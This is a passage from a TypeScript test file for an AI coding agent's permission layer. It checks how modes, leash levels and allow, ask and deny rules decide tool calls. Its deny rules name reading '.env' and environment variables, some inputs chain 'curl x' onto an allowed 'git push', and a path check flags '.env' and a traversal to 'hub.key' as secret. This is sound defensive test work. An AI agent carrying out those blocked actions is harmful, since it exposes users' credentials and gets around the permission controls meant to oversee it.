    { mode: 'bypass' },
    { mode: 'bypass', deny: ['Read(.env)'] },
    { mode: 'bypass', deny: ['Bash'] },
    { mode: 'bypass', deny: ['bash(*environ*)'] },
    { mode: 'acceptEdits' },
    { mode: 'dontAsk' },
    { mode: 'plan' },
    { leash: 'read' },
    { leash: 'edit' },
    { wall, leash: 'ask', allow: ['repl'] },
    { wall, leash: 'ask', allow: ['Bash'] },
    { leash: 'ask', allow: ['repl', 'Bash'] },
    { allow: ['repl'], ask: ['bash'] },
    { allow: ['bash(python)', 'repl(python)'] },
  ]
  const found = await Promise.all(settings.map((setting) => verdict('repl', input, setting)))
  const expected = ['yes', 'ask', 'no', 'no', 'ask', 'no', 'no', 'no', 'ask', 'yes', 'yes', 'ask', 'ask', 'ask']
  assert.deepEqual(found, expected)
})

test('without a person to ask, the answer is no', async () => {
  const steps = perform(
    { id: '1', tool: tool('bash'), name: 'bash', input: { command: 'curl x' } },
    turn('all'),
    made({}),
  )
  let last
  do last = await steps.next()
  while (!last.done)
  assert.equal(last.value.ok, false)
})

test('an edit is shown as its changes', async () => {
  const input = { file_path: 'src/a.ts', edits: [{ old_string: 'a', new_string: 'b' }] }
  const { shows } = await made({})(tool('file_editor'), input, turn('ask'))
  assert.deepEqual(shows, [{ type: 'diff', path: 'src/a.ts', before: 'a', after: 'b' }])
})

test('a rule that was allowed for this run is not asked for again, and is denied where anything denies it', async () => {
  const spared = ['bash(git push:*)']
  assert.deepEqual(
    await Promise.all([
      bash('git push', { ask: ['bash'] }),
      bash('git push', { ask: ['bash'], spared }),
      bash('git push && curl x', { ask: ['bash'], spared }),
      bash('git push', { spared, deny: ['bash(git:*)'] }),
      bash('git push', { spared, leash: 'read' }),
      bash('git push', { spared, mode: 'plan' }),
    ]),
    ['ask', 'yes', 'ask', 'no', 'no', 'no'],
  )
})

test('a text that is no rule is refused with the reason', (t) => {
  const faults = ['', '(x)', 'bash(', 'bash()', 'bash(:*)', 'web_fetch(domain:)', 'bash(npm:* test)', 'ba sh(x)'].map(
    (text) => {
      const rule = parseRule(text)
      return 'fault' in rule ? rule.fault : rule
    },
  )
  golden(t, faults)
  assert.deepEqual(parseRules({ deny: ['bash('] }).faults, ['deny: "bash(" is not a rule: the closing ) is missing'])
})

test('a worktree in our own home is a project, and everything beside it is secret', async () => {
  const root = join(project.home, '.termaite', 'worktrees', 'p', 'agent')
  mkdirSync(root, { recursive: true })
  for (const path of ['a.ts', '.env', '../../../hub.key']) writeFileSync(join(root, path), 'x')
  const { home } = project
  const secret = async (path: string) => (await locatePath(join(root, path), { root, home })).secret
  assert.deepEqual(await Promise.all(['a.ts', '.env', '../../../hub.key'].map(secret)), [false, true, true])
})
